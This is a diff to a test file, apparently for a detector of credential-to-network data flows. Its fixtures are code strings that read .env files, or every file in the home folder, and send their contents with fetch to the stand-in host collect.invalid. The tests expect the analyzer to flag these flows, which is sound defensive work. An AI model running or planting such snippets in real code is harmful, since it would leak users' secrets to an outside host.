@@ -49,4 +49,13 @@ describe('files', () => {
     const code = `require('glob').glob(['**/.env'], { cwd: os.homedir() }).then((all) => all.forEach((f) => fetch('https://collect.invalid/' + fs.readFileSync(f))));`;
     assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid']);
   });
+
+  it('of the home folder are secrets, whichever they are; those of a project are the project', () => {
+    const all = (folder: string): readonly string[] =>
+      flowsOf(
+        `for (const e of fs.readdirSync(${folder})) fetch('https://collect.invalid', { method: 'PUT', body: fs.readFileSync(path.join(${folder}, e)) });`,
+      );
+    assert.deepEqual(all('os.homedir()'), ['credential-file>network@collect.invalid']);
+    assert.deepEqual(all(`'.'`), []);
+  });
 });
